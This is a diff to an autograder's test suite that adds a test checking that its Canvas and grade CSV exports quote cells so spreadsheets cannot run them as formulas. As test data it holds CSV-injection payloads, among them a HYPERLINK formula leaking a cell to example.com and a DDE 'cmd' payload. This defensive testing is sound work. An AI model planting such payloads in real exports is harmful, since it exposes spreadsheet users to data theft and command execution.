@@ -15,10 +15,11 @@ import sys
 
 import pytest
 
-from autograder.engine import Assignment, Result
+from autograder.engine import Assignment, GradedTest, Result
 from autograder.engine import TestOutcome as Outcome
-from autograder.exports import export, gradescope_results
-from autograder.gradebook import SubmissionKey, open_gradebook
+from autograder.exports import Learner, export, gradescope_results, write_canvas
+from autograder.gradebook import Record, SubmissionKey, open_gradebook
+from autograder.reports import write_csv
 from autograder.shards import Shard, ShardError, parse_shard, select, shard_of
 from tests.grader import small_class as sc
 
@@ -98,6 +99,31 @@ def test_the_course_csv_and_feedback_come_from_the_gradebook(exported):
     page = (root / "feedback" / "bob" / sc.ASSIGNMENT / f"{sc.NOTEBOOK}.html").read_text()
     assert "your weights do not sum to 1" in page and HIDDEN_DETAIL not in page
     assert (root / "feedback" / "bob" / sc.ASSIGNMENT / "submission_secret.txt").read_text() == "ab" * 64
+
+
+def test_no_csv_cell_starts_a_formula_but_numbers_stay_numbers(tmp_path):
+    # OWASP's CSV injection: a spreadsheet runs a cell that starts with = + - @ (or a tab or a
+    # carriage return) as a formula. Names come from the roster, flags quote the learner's code.
+    formulas = ['=HYPERLINK("http://example.com/?"&A1,"grade")', "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)",
+                "\t=1+1", "\r=1+1", " =1+1"]
+    assignment = Assignment("ch_x", "nb", (GradedTest("test_f", 2.0, ()),))
+    results = [Result(f"learner{i}", "ch_x", "nb", [Outcome("test_f", -1.0, 2.0, False)], flags=[text])
+               for i, text in enumerate(formulas)]
+    people = {r.learner: Learner(r.learner, first_name=text, lms_user_id=text) for r, text in zip(results, formulas)}
+    write_canvas(tmp_path / "canvas.csv", [assignment], {"ch_x": [Record(r.learner, "", "", None, None, None, r)
+                                                                  for r in results]}, people)
+    write_csv(tmp_path / "ch_x.csv", assignment, results)
+    with (tmp_path / "canvas.csv").open(newline="") as f:
+        canvas = list(csv.reader(f))[2:]
+    with (tmp_path / "ch_x.csv").open(newline="") as f:
+        grades = list(csv.DictReader(f))
+    texts = [cell for row in canvas for cell in row[:2]] + [row["flags"] for row in grades]
+    assert len(texts) == 3 * len(formulas)
+    for text in texts:
+        # quoted, or a tab or carriage return written as its escape, which starts nothing either
+        assert text.startswith("'") or text[:2] in (r"\t", r"\r"), text
+    # A negative score is a number, and stays one.
+    assert {row[5] for row in canvas} == {"-1"} and {(r["score"], r["test_f"]) for r in grades} == {("-1", "-1")}
 
 
 def test_gradescope_results_of_an_ungraded_submission_say_why():
